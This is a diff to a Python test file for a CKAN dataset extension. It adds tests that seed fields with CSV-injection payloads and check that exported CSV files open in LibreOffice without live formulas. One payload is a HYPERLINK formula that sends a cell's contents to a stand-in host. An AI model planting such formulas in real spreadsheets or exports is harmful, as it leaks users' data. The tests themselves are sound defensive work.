@@ -5,12 +5,16 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import subprocess
 
 import pytest
 from ckan import model
 from ckan.cli.cli import ckan
+from ckan.logic import ValidationError
 from ckan.tests import factories
 from ckan.tests.helpers import call_action
+from ckanext.scheming.helpers import scheming_get_dataset_schema
 
 from tests.sample import DATASET_TYPES, dataset_dict
 
@@ -111,7 +115,7 @@ def test_csv_lists_and_columns(cli, tmp_path, org, sysadmin_ctx):
     _invoke(cli, "export", "--type", "hta-report", "-o", str(path))
 
     (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
-    assert row["authors"] == "Pérez García, Ana;Quispe Mamani, Luis"
+    assert row["authors"] == "Pérez García, Ana; Quispe Mamani, Luis"
     assert row["owner_org"] == org["name"]
     assert row["publication_date"] == "2023-05-10"
     assert row["private"] == "false"
@@ -250,3 +254,89 @@ def test_documented_example_files_load(cli, dataset_type, fmt):
 
     assert result.exit_code == 0, result.output
     assert "3 rows: 3 were created" in result.output
+
+
+# --- spreadsheets -----------------------------------------------------------
+
+# OWASP's CSV injection examples, a quote before one, and a full-width sign
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Ver")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=1+1",
+    "\uff1d1+1",
+]
+
+
+def _spreadsheet_formulas(path, tmp_path) -> list[str]:
+    """The formulas LibreOffice Calc finds when it opens the CSV file (UTF-8, commas)."""
+    profile = tmp_path / "lo-profile"
+    subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--infilter=CSV:44,34,76,1",
+            "--convert-to",
+            "fods",
+            "--outdir",
+            str(tmp_path),
+            str(path),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    sheet = (tmp_path / (path.stem + ".fods")).read_text(encoding="utf-8")
+    return re.findall(r'table:formula="([^"]*)"', sheet)
+
+
+def _create_with_formulas(ctx, dataset_type: str, org: dict, name: str) -> dict:
+    """A dataset whose every free-text field (those that take such text) starts a formula."""
+    data = dataset_dict(dataset_type, org["id"], name=name)
+    fields = [f["field_name"] for f in scheming_get_dataset_schema(dataset_type)["dataset_fields"]]
+    hostile = {}
+    for i, field in enumerate(f for f in fields if f not in ("name", "owner_org")):
+        formula = FORMULAS[i % len(FORMULAS)]
+        if isinstance(data.get(field), list):
+            hostile[field] = [formula, *data[field][1:]]
+        elif isinstance(data.get(field), str):
+            hostile[field] = formula
+    while True:
+        try:
+            return _create(ctx, dataset_type, org, name, **hostile)
+        except ValidationError as error:
+            refused = set(error.error_dict) & set(hostile)
+            assert refused, error.error_dict
+            for field in refused:  # a coded field (a date, a choice) refuses them
+                del hostile[field]
+
+
+@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
+def test_csv_export_opens_without_formulas_and_loads_back(
+    cli, tmp_path, org, sysadmin_ctx, dataset_type
+):
+    pkg = _create_with_formulas(sysadmin_ctx, dataset_type, org, "formulas")
+    assert pkg["title"] == FORMULAS[0]
+    path = tmp_path / "export.csv"
+    _invoke(cli, "export", "--type", dataset_type, "-o", str(path))
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
+    assert row["title"] == "'" + FORMULAS[0]  # there, as text
+
+    assert _spreadsheet_formulas(path, tmp_path) == []
+
+    imported = _invoke(cli, "import", "--type", dataset_type, str(path))
+    assert "0 rejected" in imported.output, imported.output
+    again = call_action("package_show", sysadmin_ctx(), id=pkg["name"])
+    assert _comparable(again) == _comparable(pkg)
+
+
+def test_search_page_export_opens_without_formulas(app, tmp_path, org, sysadmin_ctx):
+    _create_with_formulas(sysadmin_ctx, "hta-report", org, "formulas")
+    path = tmp_path / "hta-reports.csv"
+    path.write_bytes(app.get("/hta-report/export.csv").get_data())
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
+    assert row["title"] == "'" + FORMULAS[0]
+
+    assert _spreadsheet_formulas(path, tmp_path) == []
